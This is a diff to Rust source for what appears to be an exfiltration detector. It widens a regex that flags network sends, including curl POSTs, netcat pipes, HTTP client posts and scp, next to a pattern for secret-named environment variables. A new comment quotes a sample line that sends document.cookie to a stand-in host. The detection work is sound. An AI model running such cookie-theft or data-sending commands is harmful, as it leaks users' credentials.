@@ -190,10 +190,11 @@ static SECRET_VAR: LazyLock<Regex> = LazyLock::new(|| {
         r#"\$\(?(?:[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD|PASSWD|CREDENTIALS?)[A-Z_]*)\b|\$\{(?:[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)[A-Z_]*)\}|(?:environ(?:\.get\(|\[)|getenv\()["'][A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)[A-Z_]*["']|process\.env\.[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)|\$env:[A-Z_]*(?:TOKEN|SECRET|KEY|PASSWORD)"#,
     )
 });
-/// Sending to the network.
+/// Sending to the network: a request with a body, a socket, mail, a copy to another host, and a
+/// GET whose query is built from data (`fetch('https://x/c?d=' + btoa(document.cookie))`).
 static SENDS: LazyLock<Regex> = LazyLock::new(|| {
     re(
-        r#"(?i)\bcurl\b[^|\n]*?\s(?:-d\b|--data(?:-binary|-raw|-urlencode|-ascii)?\b|-F\b|--form\b|-T\b|--upload-file\b|-X\s*["']?(?:POST|PUT)\b|--request\s+(?:POST|PUT)\b|-H\s*["']?x-)|\bwget\b[^\n]*--post-(?:data|file)|\b(?:nc|ncat|netcat)\s+(?:-\S+\s+)*[\w.-]+\s+\d+\s*<|\|\s*(?:nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*[\w.-]+\s+\d+|\b(?:requests|httpx|session|client|http|aiohttp)\.(?:post|put|patch)\s*\(|\burllib\.request\.Request\s*\([^)]*data\s*=|\burlopen\s*\([^)]*data\s*=|\bsmtplib\.SMTP|\bftplib\.FTP|\.sendall?\s*\(|\bfetch\s*\([^\n]*method\s*:\s*["'](?:POST|PUT)|\baxios\.(?:post|put)\s*\(|\bnavigator\.sendBeacon|\b(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n]*-(?:method\s+["']?(?:post|put)|body|infile)\b|\.Upload(?:String|File|Data)\s*\(|\b(?:scp|rsync)\b[^\n]*\s[\w.-]+@[\w.-]+:|\bsend-mailmessage\b"#,
+        r#"(?i)\bcurl\b[^|\n]*?\s(?:-d\b|--data(?:-binary|-raw|-urlencode|-ascii)?\b|-F\b|--form\b|-T\b|--upload-file\b|-X\s*["']?(?:POST|PUT)\b|--request\s+(?:POST|PUT)\b|-H\s*["']?x-)|\bwget\b[^\n]*--post-(?:data|file)|\b(?:nc|ncat|netcat)\s+(?:-\S+\s+)*[\w.-]+\s+\d+\s*<|\|\s*(?:nc|ncat|netcat|telnet)\s+(?:-\S+\s+)*[\w.-]+\s+\d+|\b(?:requests|httpx|session|client|http|aiohttp)\.(?:post|put|patch)\s*\(|\burllib\.request\.Request\s*\([^)]*data\s*=|\burlopen\s*\([^)]*data\s*=|\bsmtplib\.SMTP|\bftplib\.FTP|\.sendall?\s*\(|\bfetch\s*\([^\n]*method\s*:\s*["'](?:POST|PUT)|\baxios\.(?:post|put)\s*\(|\bnavigator\.sendBeacon|\b(?:invoke-webrequest|invoke-restmethod|iwr|irm)\b[^\n]*-(?:method\s+["']?(?:post|put)|body|infile)\b|\.Upload(?:String|File|Data)\s*\(|\b(?:scp|rsync)\b[^\n]*\s[\w.-]+@[\w.-]+:|\bsend-mailmessage\b|\b(?:fetch|requests\.get|httpx\.get|axios\.get|urlopen)\s*\(\s*["'`]https?://[^"'`\s]*\?[^"'`\s]*["'`]\s*\+"#,
     )
 });
 /// Names built from data and resolved: DNS exfiltration.
